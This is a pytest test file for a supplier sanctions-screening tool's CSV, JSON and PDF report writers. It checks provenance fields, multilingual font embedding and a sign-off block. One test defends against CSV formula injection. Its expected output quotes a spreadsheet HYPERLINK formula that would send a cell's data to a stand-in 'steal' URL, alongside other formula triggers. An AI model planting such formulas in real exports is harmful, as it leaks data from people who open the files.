"""CSV, JSON and PDF reports: the same rows, matches and provenance as the workbook."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from io import BytesIO
from typing import Any

import pytest
from pypdf import PdfReader

from report_samples import sample_report
from screening.reports import REPORT_FORMATS, UnknownReportFormatError, write_report
from screening.reports.cell_safety import csv_safe, is_formula_like
from screening.reports.csv_report import csv_bytes
from screening.reports.json_report import json_bytes
from screening.reports.model import ReportData
from screening.reports.pdf import pdf_bytes


@pytest.fixture(scope="module")
def csv_rows() -> list[dict[str, str]]:
    text = csv_bytes(sample_report()).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture(scope="module")
def document() -> dict[str, object]:
    loaded: dict[str, object] = json.loads(json_bytes(sample_report()))
    return loaded


@pytest.fixture(scope="module")
def pdf_text() -> str:
    reader = PdfReader(BytesIO(pdf_bytes(sample_report())))
    return "\n".join(page.extract_text() for page in reader.pages)


def test_csv_starts_with_a_byte_order_mark_for_excel() -> None:
    assert csv_bytes(sample_report()).startswith(b"\xef\xbb\xbf")


def test_csv_has_every_input_row_with_original_columns_and_result(
    csv_rows: list[dict[str, str]],
) -> None:
    assert len(csv_rows) == 20
    ryonbong = next(
        r for r in csv_rows if r["Наименование"] == "Korea Ryonbong General Corporation"
    )
    assert (ryonbong["sheet"], ryonbong["row"], ryonbong["risk_level"]) == (
        "Поставщики",
        "6",
        "critical",
    )
    assert "un-sc KPe.002" in ryonbong["matches"]


def test_csv_rows_carry_the_provenance(csv_rows: list[dict[str, str]]) -> None:
    first = csv_rows[0]
    # Each list's version, its publication date and its age when the screening started.
    assert first["lists"].startswith("un-sc 2026-02-27-66b392a4 (published 2026-02-27, age ")
    assert first["input_sha256"] == "ab" * 32
    assert first["engine_version"] == "0.1.0"


def test_csv_cells_that_look_like_formulas_get_an_apostrophe() -> None:
    text = csv_bytes(sample_report("injection.xlsx")).decode("utf-8-sig")
    names = [row["Supplier Name"] for row in csv.DictReader(io.StringIO(text))]
    assert names[:4] == [
        '\'=HYPERLINK("http://example.invalid/steal?d="&A1,"click")',
        "'+SUM(1,2)",
        "'-2+3",
        "'@SUM(1,2)",
    ]
    assert names[4] == "Plain Supplier GmbH"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_triggers_are_recognised(text: str) -> None:
    assert is_formula_like(text) and csv_safe(text) == "'" + text


def test_json_has_provenance_summary_rows_and_errors(document: dict[str, object]) -> None:
    assert document["summary"] == {"critical": 1, "high": 0, "medium": 0, "low": 0, "clear": 14}
    provenance = document["provenance"]
    assert isinstance(provenance, dict)
    assert provenance["lists"][0]["version"] == "2026-02-27-66b392a4"
    rows = document["rows"]
    assert isinstance(rows, list) and len(rows) == 20
    errors = document["errors"]
    assert isinstance(errors, list) and {"sheet", "row", "column", "message"} <= set(errors[0])


def test_json_rows_key_original_values_by_heading(document: dict[str, object]) -> None:
    rows = document["rows"]
    assert isinstance(rows, list)
    ryonbong = next(
        r for r in rows if r["supplier"]["name"] == "Korea Ryonbong General Corporation"
    )
    assert ryonbong["values"]["Наименование"] == "Korea Ryonbong General Corporation"
    assert ryonbong["matches"][0]["source_id"] == "KPe.002"


def test_pdf_summarises_counts_flagged_suppliers_and_provenance(pdf_text: str) -> None:
    assert "Suppliers per risk level" in pdf_text
    assert "Korea Ryonbong General Corporation" in pdf_text
    assert "2026-02-27-66b392a4" in pdf_text
    assert "ab" * 32 in pdf_text


def test_pdf_has_a_sign_off_block(pdf_text: str) -> None:
    for label in ("Reviewer name", "Date", "Signature"):
        assert label in pdf_text


def test_pdf_is_at_most_two_pages() -> None:
    assert len(PdfReader(BytesIO(pdf_bytes(sample_report()))).pages) <= 2


def test_every_format_writes_and_an_unknown_one_is_refused() -> None:
    report = sample_report("suppliers_utf8_bom.csv")
    for name in REPORT_FORMATS:
        out = BytesIO()
        write_report(report, name, out)
        assert out.getvalue()
    with pytest.raises(UnknownReportFormatError):
        write_report(report, "docx", BytesIO())


def test_provenance_gives_each_list_its_age_at_screening_time() -> None:
    report = sample_report()
    (un,) = report.provenance.lists
    started = report.provenance.started_at
    assert un.age_days(started) == (started.date() - un.published).days  # type: ignore[operator]
    body = json.loads(json_bytes(report))
    assert body["provenance"]["lists"][0]["age_days_at_screening"] == un.age_days(started)
# The PDF carries its font: Korean, Chinese and Russian names read the same on any machine ------

FLAGGED_NAMES = ("조선련봉총회사", "ООО Ромашка", "朝鲜连峰总公司")


def report_naming(names: tuple[str, ...]) -> ReportData:
    """The sample report with its first clear rows renamed and flagged high."""
    report = sample_report()
    rows = list(report.rows)
    clear = [i for i, row in enumerate(rows) if row.level == "clear" and row.supplier][: len(names)]
    for index, name in zip(clear, names, strict=True):
        row = rows[index]
        assert row.supplier is not None
        supplier = dataclasses.replace(row.supplier, name=name)
        rows[index] = dataclasses.replace(row, supplier=supplier, level="high", score=70)
    return dataclasses.replace(report, rows=rows)


def fonts_of(reader: PdfReader) -> list[Any]:
    found = []
    for page in reader.pages:
        for font in page["/Resources"]["/Font"].values():
            found.append(font.get_object())
    return found


def test_pdf_names_in_hangul_cyrillic_and_chinese_read_back() -> None:
    reader = PdfReader(BytesIO(pdf_bytes(report_naming(FLAGGED_NAMES))))
    text = "\n".join(page.extract_text() for page in reader.pages)
    for name in FLAGGED_NAMES:
        assert name in text


def test_pdf_embeds_every_font_it_writes_with() -> None:
    reader = PdfReader(BytesIO(pdf_bytes(report_naming(FLAGGED_NAMES))))
    embedded = set()
    for font in fonts_of(reader):
        if font["/BaseFont"] in ("/Helvetica", "/Helvetica-Bold"):  # the PDF's own 14 fonts
            continue
        descendants = font.get("/DescendantFonts")
        descriptor = (descendants[0].get_object() if descendants else font)["/FontDescriptor"]
        assert "/FontFile2" in descriptor.get_object(), font["/BaseFont"]
        embedded.add(str(font["/BaseFont"]))
    assert any("NotoSansCJK" in name for name in embedded), embedded
